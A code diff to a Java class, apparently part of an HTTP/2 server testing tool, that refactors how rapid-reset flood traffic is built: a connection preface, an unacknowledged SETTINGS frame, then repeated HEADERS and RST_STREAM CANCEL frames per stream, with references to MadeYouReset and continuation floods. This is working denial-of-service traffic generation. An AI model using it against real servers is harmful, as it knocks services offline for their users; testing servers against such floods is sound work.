@@ -19,6 +19,9 @@ import java.nio.charset.StandardCharsets;
  * </ul>
  */
 public final class ResetFloods {
+  /** The payload of RST_STREAM with CANCEL (8). */
+  private static final byte[] RST_CANCEL = {0, 0, 0, 8};
+
   private ResetFloods() {}
 
   /**
@@ -26,8 +29,7 @@ public final class ResetFloods {
    */
   public static ContinuationFlood.Result rapidReset(Socket socket, String authority)
       throws Exception {
-    // RST_STREAM with CANCEL (8)
-    return flood(socket, authority, 3, new byte[] {0, 0, 0, 8});
+    return flood(socket, authority, 3, RST_CANCEL);
   }
 
   /** MadeYouReset on {@code socket} (connected, handshake done), requests for {@code authority}. */
@@ -58,19 +60,32 @@ public final class ResetFloods {
    */
   private static ContinuationFlood.Result flood(
       Socket socket, String authority, int type, byte[] payload) throws Exception {
-    ByteArrayOutputStream opening = new ByteArrayOutputStream();
-    opening.write(ContinuationFlood.PREFACE);
-    opening.write(ContinuationFlood.frame(4, 0, 0, new byte[0])); // SETTINGS
     byte[] headers = requestHeaders(authority);
     return ContinuationFlood.flood(
-        socket,
-        opening.toByteArray(),
-        i -> {
-          int stream = 2 * i + 1;
-          ByteArrayOutputStream round = new ByteArrayOutputStream();
-          round.writeBytes(ContinuationFlood.frame(1, 0x5, stream, headers));
-          round.writeBytes(ContinuationFlood.frame(type, 0, stream, payload));
-          return round.toByteArray();
-        });
+        socket, opening(), i -> round(2 * i + 1, headers, type, payload));
+  }
+
+  /** The client's connection preface and an empty SETTINGS frame (never acknowledged later). */
+  public static byte[] opening() {
+    ByteArrayOutputStream opening = new ByteArrayOutputStream();
+    opening.writeBytes(ContinuationFlood.PREFACE);
+    opening.writeBytes(ContinuationFlood.frame(4, 0, 0, new byte[0]));
+    return opening.toByteArray();
+  }
+
+  /** One rapid-reset round on {@code stream}: a GET of {@code headers}, then RST_STREAM CANCEL. */
+  public static byte[] rapidResetRound(int stream, byte[] headers) {
+    return round(stream, headers, 3, RST_CANCEL);
+  }
+
+  /**
+   * HEADERS of {@code headers} with END_STREAM and END_HEADERS on {@code stream}, then a frame of
+   * {@code type} with {@code payload} on it.
+   */
+  private static byte[] round(int stream, byte[] headers, int type, byte[] payload) {
+    ByteArrayOutputStream round = new ByteArrayOutputStream();
+    round.writeBytes(ContinuationFlood.frame(1, 0x5, stream, headers));
+    round.writeBytes(ContinuationFlood.frame(type, 0, stream, payload));
+    return round.toByteArray();
   }
 }
